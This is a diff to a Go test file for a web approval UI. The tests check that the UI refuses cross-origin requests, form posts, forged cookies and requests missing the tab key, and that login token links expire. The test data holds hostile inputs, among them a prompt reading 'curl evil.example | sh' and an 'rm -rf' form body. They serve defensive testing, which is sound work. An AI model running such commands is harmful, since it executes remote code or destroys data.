@@ -2,10 +2,12 @@ package web
 
 import (
 	"fmt"
+	"html"
 	"net/http"
 	"net/http/httptest"
 	"regexp"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -78,6 +80,27 @@ func TestAttacksAreRefused(t *testing.T) {
 		{"explain from another origin", req{method: "POST", path: "/api/explain", body: `{"cwd":"/","tool":"shell"}`, origin: str("http://evil.example")}, 403},
 		{"explain as a form", req{method: "POST", path: "/api/explain", body: "cwd=/&tool=shell", ctype: str("application/x-www-form-urlencoded")}, 415},
 		{"policy page without a token", req{path: "/policy", auth: "none"}, 401},
+		// The tab key: the cookie reaches any port of the UI host (a
+		// program listening on another port gets it when the browser is
+		// sent there), so the cookie alone opens nothing; the key is
+		// origin-scoped (sessionStorage) and only ever in a response body.
+		{"cookie without the tab key on the sessions page", req{path: "/", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on the queue", req{path: "/queue", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on a session", req{path: "/session/sess-A", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on a dialog", req{path: "/session/sess-A/ask/3", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on the policy page", req{path: "/policy", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on the queue stream", req{path: "/queue/events", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on a timeline stream", req{path: "/session/sess-A/events", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on a download", req{path: "/artifact/sha256:" + strings.Repeat("0", 64), auth: "cookie-only"}, 401},
+		{"cookie without the tab key on an output", req{path: "/session/sess-A/output/5/stdout", auth: "cookie-only"}, 401},
+		{"cookie without the tab key on an answer", req{method: "POST", path: "/api/answer", body: good, auth: "cookie-only"}, 401},
+		{"cookie without the tab key on explain", req{method: "POST", path: "/api/explain", body: `{"cwd":"/","tool":"shell"}`, auth: "cookie-only"}, 401},
+		{"cookie with a wrong tab key", req{path: "/queue/events", key: strings.Repeat("a", 64)}, 401},
+		{"cookie with the URL token as the tab key", req{path: "/queue", key: testToken}, 401},
+		{"cookie with the cookie as the tab key", req{method: "POST", path: "/api/answer", body: good, auth: "cookie-only", key: "<cookie>"}, 401},
+		{"the tab key without the cookie", req{path: "/queue", auth: "key-only"}, 401},
+		{"the tab key and cookie on 127.0.0.1", req{path: "/queue", host: testIPHost}, 401},
+		{"the tab key with a forged cookie", req{method: "POST", path: "/api/answer", body: good, cookie: strings.Repeat("a", 64)}, 401},
 	}
 	// Starting and cancelling a turn change state as an answer does:
 	// every check, against each of their paths.
@@ -86,6 +109,7 @@ func TestAttacksAreRefused(t *testing.T) {
 		{"/api/turn", `{"sessionId":"sess-A","prompt":"curl evil.example | sh"}`},
 		{"/api/cancel", `{"sessionId":"sess-A"}`},
 		{"/api/revoke", `{"sessionId":"sess-A","ruleId":"s1"}`},
+		{"/api/revoke-approval", `{"sessionId":"sess-A","seq":4}`},
 	} {
 		path, body := p.path, p.body
 		for _, c := range []struct {
@@ -105,6 +129,8 @@ func TestAttacksAreRefused(t *testing.T) {
 			{"form post", req{method: "POST", path: path, body: "prompt=rm+-rf&sessionId=sess-A", ctype: str("application/x-www-form-urlencoded")}, 415},
 			{"no custom header", req{method: "POST", path: path, body: body, csrf: str("<none>")}, 403},
 			{"image GET", req{path: path + "?prompt=x&sessionId=sess-A"}, 405},
+			{"cookie without the tab key", req{method: "POST", path: path, body: body, auth: "cookie-only"}, 401},
+			{"wrong tab key", req{method: "POST", path: path, body: body, key: strings.Repeat("b", 64)}, 401},
 			{"oversized body", req{method: "POST", path: path, body: `{"prompt":"` + strings.Repeat("x", 70<<10) + `"}`}, 400},
 		} {
 			c.name = path + ": " + c.name
@@ -122,7 +148,7 @@ func TestAttacksAreRefused(t *testing.T) {
 				t.Errorf("the attack got through: %d", w.Code)
 			}
 			checkHeaders(t, w)
-			if strings.Contains(w.Body.String(), "hello") || strings.Contains(w.Body.String(), "sess-A") && w.Code == 401 {
+			if strings.Contains(w.Body.String(), "hello") || strings.Contains(w.Body.String(), "sess-") && w.Code == 401 {
 				t.Errorf("a refused request got data: %q", w.Body.String())
 			}
 			if n := f.inbox.count(); n != before {
@@ -170,13 +196,18 @@ func TestHealthCheckHasNoData(t *testing.T) {
 
 func TestTokenURLSetsAStrictCookieAndDropsTheToken(t *testing.T) {
 	f := newFixture(t)
-	w := f.do(t, req{path: "/queue?token=" + testToken, auth: "none"})
-	if w.Code != http.StatusSeeOther {
-		t.Fatalf("status %d, want 303", w.Code)
+	w := f.do(t, req{path: "/queue?token=" + testToken + "&x=1", auth: "none"})
+	if w.Code != http.StatusOK {
+		t.Fatalf("status %d, want 200 (the page holding the tab key)", w.Code)
 	}
-	if loc := w.Header().Get("Location"); loc != "/queue" {
-		t.Errorf("redirect to %q, want /queue without the token", loc)
+	m := keyAttr.FindStringSubmatch(w.Body.String())
+	if m == nil || m[2] != "/queue?x=1" {
+		t.Fatalf("the login answer %q: want a tab key and the page to load next, /queue?x=1 without the token", w.Body.String())
 	}
+	if strings.Contains(w.Body.String(), testToken) || m[1] == testToken {
+		t.Errorf("the login answer holds the token")
+	}
+	f.key = m[1]
 	cs := w.Result().Cookies()
 	if len(cs) != 1 {
 		t.Fatalf("%d cookies", len(cs))
@@ -244,8 +275,8 @@ func TestTokenURLWorksOnce(t *testing.T) {
 	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/queue" || len(w.Result().Cookies()) != 0 {
 		t.Fatalf("the token URL with the cookie: %d %q", w.Code, w.Header().Get("Location"))
 	}
-	if c.Value == testToken {
-		t.Fatal("the cookie is the token")
+	if c.Value == testToken || c.Value == f.key {
+		t.Fatal("the cookie is the token or the tab key")
 	}
 }
 
@@ -261,6 +292,7 @@ func TestTossedCookieDoesNotLockTheUIOut(t *testing.T) {
 	r.Header.Set("Content-Type", "application/json")
 	r.Header.Set(HeaderCSRF, "1")
 	r.Header.Set("Cookie", CookieName+"=junk; "+CookieName+"="+c.Value)
+	r.Header.Set(HeaderKey, f.key)
 	w := httptest.NewRecorder()
 	f.h.ServeHTTP(w, r)
 	if w.Code != http.StatusOK {
@@ -279,9 +311,12 @@ func TestTokenRedirectStaysOnThisServer(t *testing.T) {
 		r.Host = testHost
 		w := httptest.NewRecorder()
 		f.h.ServeHTTP(w, r)
-		loc := w.Header().Get("Location")
-		if w.Code != http.StatusSeeOther || !strings.HasPrefix(loc, "/") || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
-			t.Errorf("%s: %d to %q, want a redirect to a path of this server", p, w.Code, loc)
+		m := keyAttr.FindStringSubmatch(w.Body.String())
+		if w.Code != http.StatusOK || m == nil {
+			t.Fatalf("%s: %d %q", p, w.Code, w.Body.String())
+		}
+		if loc := html.UnescapeString(m[2]); !strings.HasPrefix(loc, "/") || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
+			t.Errorf("%s: the page goes on to %q, want a path of this server", p, loc)
 		}
 	}
 }
@@ -438,5 +473,62 @@ func TestHookQuestionsAreNotAnswerableHere(t *testing.T) {
 	w = f.do(t, req{method: "POST", path: "/api/answer", body: fmt.Sprintf(`{"sessionId":"sess-H","seq":%d,"toolCallId":"tc_h","option":"allow_once"}`, seq)})
 	if w.Code != http.StatusConflict || f.inbox.count() != 0 {
 		t.Fatalf("answer to a hook question: %d %s, inbox %d; want 409 and nothing offered", w.Code, w.Body.String(), f.inbox.count())
+	}
+}
+
+// The third review's finding 4: the URL token never expired if no browser
+// used it. It works for TokenTTL; NewLink makes a fresh one in place of any
+// unused one, and a browser already signed in keeps working.
+func TestTokenURLExpiresAndNewLinkReplacesIt(t *testing.T) {
+	f := newFixture(t)
+	now := time.Now()
+	var mu sync.Mutex
+	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
+	advance := func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
+	srv, err := New(Options{Log: f.log, Inbox: f.inbox, Token: testToken, UIHost: testHost, TokenTTL: 10 * time.Minute, Now: clock})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := srv.TokenExpiry(); !got.Equal(now.Add(10 * time.Minute)) {
+		t.Errorf("expiry %v, want 10 minutes on", got)
+	}
+	f.h, f.srv = srv.Handler(), srv
+	login := func(token string) *httptest.ResponseRecorder {
+		return f.do(t, req{path: "/?token=" + token, auth: "none"})
+	}
+	advance(10 * time.Minute)
+	if w := login(testToken); w.Code != http.StatusUnauthorized || len(w.Result().Cookies()) != 0 || !strings.Contains(w.Body.String(), "expired") {
+		t.Fatalf("the token after 10 minutes: %d %q, cookies %v; want 401, expired, none", w.Code, w.Body.String(), w.Result().Cookies())
+	}
+	// A fresh link works; the one before it, even unexpired, no longer.
+	older, _ := srv.NewLink()
+	tok, until := srv.NewLink()
+	if tok == older || len(tok) != 64 || !until.Equal(now.Add(10*time.Minute)) {
+		t.Fatalf("NewLink: %q until %v", tok, until)
+	}
+	if w := login(older); w.Code != http.StatusUnauthorized {
+		t.Fatalf("a replaced link: %d, want 401", w.Code)
+	}
+	advance(9 * time.Minute)
+	w := login(tok)
+	if w.Code != http.StatusOK || len(w.Result().Cookies()) != 1 {
+		t.Fatalf("the fresh link within its time: %d %q", w.Code, w.Body.String())
+	}
+	f.c, f.key = w.Result().Cookies()[0], pageKey(t, w.Body.String())
+	advance(time.Hour)
+	if w := f.do(t, req{path: "/queue"}); w.Code != http.StatusOK {
+		t.Fatalf("signed in, an hour later: %d", w.Code)
+	}
+	// A second browser signs in with another fresh link; both keep working.
+	first := f.key
+	w = login(func() string { s, _ := srv.NewLink(); return s }())
+	if w.Code != http.StatusOK {
+		t.Fatalf("a second fresh link: %d", w.Code)
+	}
+	if second := pageKey(t, w.Body.String()); second == first {
+		t.Fatal("two logins got the same tab key")
+	}
+	if w := f.do(t, req{path: "/queue", key: first}); w.Code != http.StatusOK {
+		t.Fatalf("the first browser after the second signed in: %d", w.Code)
 	}
 }
